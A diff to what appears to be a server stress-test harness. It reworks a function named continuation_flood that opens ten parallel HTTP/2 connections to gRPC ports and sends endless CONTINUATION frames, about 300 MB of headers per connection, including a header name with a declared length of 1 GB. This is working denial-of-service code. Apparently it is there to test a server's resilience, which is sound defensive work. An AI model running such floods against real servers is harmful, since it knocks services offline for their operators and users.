@@ -548,19 +548,21 @@ def grpc_cancel_storm(_victim, ground):
 
 @attack(bare=False)
 def continuation_flood(_victim, ground):
-    """300 MB of a header block that does not end, on both ports."""
-    name_of_1_gb = b"\0" + h2_frames.string_length(1 << 30)
-    headers = h2_frames.encode(h2_frames.grpc_fields(GENERATE)) + name_of_1_gb
-    piece = h2_frames.frame(h2_frames.CONTINUATION, 0, 1, b"x" * h2_frames.MAX_FRAME) * 64
+    """300 MB of headers in blocks that do not end, on both ports; and names of 1 GB."""
+    headers = h2_frames.encode(h2_frames.grpc_fields(GENERATE))
+    more = h2_frames.encode([(f"x-{number}", "y" * 1000) for number in range(15)])
+    endless_name = b"\0" + h2_frames.string_length(1 << 30)
 
     def flood(number):
+        begin, block = (headers, more) if number < 8 else (headers + endless_name, b"x" * 16_000)
+        piece = h2_frames.frame(h2_frames.CONTINUATION, 0, 1, block) * 64
         client = ground.http2(GRPC_PORTS[number % 2])
-        client.send(h2_frames.frame(h2_frames.HEADERS, 0, 1, headers))
-        end = _deadline()
+        client.send(h2_frames.frame(h2_frames.HEADERS, 0, 1, begin))
+        end = time.monotonic() + LONGEST_S / 4
         for _ in range(300 * MIB // 8 // len(piece)):
             if time.monotonic() < end:
                 client.send(piece)
-    ground.at_once(8, flood)
+    ground.at_once(10, flood)
 
 
 @attack(bare=False, tls=True)
